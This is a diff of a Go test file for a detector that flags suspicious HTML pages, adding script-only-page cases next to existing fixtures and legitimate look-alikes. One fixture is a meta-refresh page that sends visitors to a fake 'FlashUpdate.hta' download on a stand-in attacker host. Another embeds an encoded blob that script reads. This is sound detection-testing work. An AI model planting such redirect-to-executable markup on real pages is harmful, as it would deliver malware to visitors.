@@ -53,6 +53,7 @@ func TestPluginSignals(t *testing.T) {
 		{"refresh to a program", site, site, `<html><head><meta http-equiv="refresh" content="0;url=http://dl.evil.example/FlashUpdate.hta"></head><body>Updating</body></html>`, []string{"executable-autoload"}, nil},
 		{"encoded text and a reader", evil, evil, `<html><body><p>` + prose[:300] + `</p><div id="d">` + b64 + `</div><script>var t=document.getElementById("d").innerHTML;</script></body></html>`, []string{"encoded-text-payload"}, nil},
 		{"encoded text with noise", evil, evil, `<html><body><span id="s">` + strings.ReplaceAll(b64, "Z", "Z. ") + `</span><script>go()</script></body></html>`, []string{"encoded-text-payload"}, nil},
+		{"a page of script", evil, evil, `<html><body><script>` + strings.Repeat("var a = b + c; ", 150) + `</script></body></html>`, []string{"script-only-page"}, nil},
 		// Legitimate look-alikes.
 		{"video embed and download link", site, site, `<html><body>` + prose + `<iframe src="https://video.example.com/embed/42" width="560" height="315"></iframe><a href="https://dl.example.org/setup.exe">Download</a><script>x()</script></body></html>`, nil,
 			[]string{"plugin-payload", "executable-autoload", "encoded-text-payload", "vbscript"}},
@@ -62,6 +63,7 @@ func TestPluginSignals(t *testing.T) {
 			[]string{"encoded-text-payload"}},
 		{"object with an image", site, site, `<html><body>` + prose + `<object data="diagram.svg" type="image/svg+xml"></object><embed src="clip.mp4"></body></html>`, nil,
 			[]string{"plugin-payload", "executable-autoload"}},
+		{"a page of text and script", site, site, `<html><body><p>` + prose + `</p><script>` + strings.Repeat("var a = b + c; ", 150) + `</script></body></html>`, nil, []string{"script-only-page"}},
 		{"javascript type", site, site, `<html><body><script type="text/javascript">var vbscript = 1;</script></body></html>`, nil, []string{"vbscript"}},
 	} {
 		got := structureRules(c.visit, c.page, c.body)
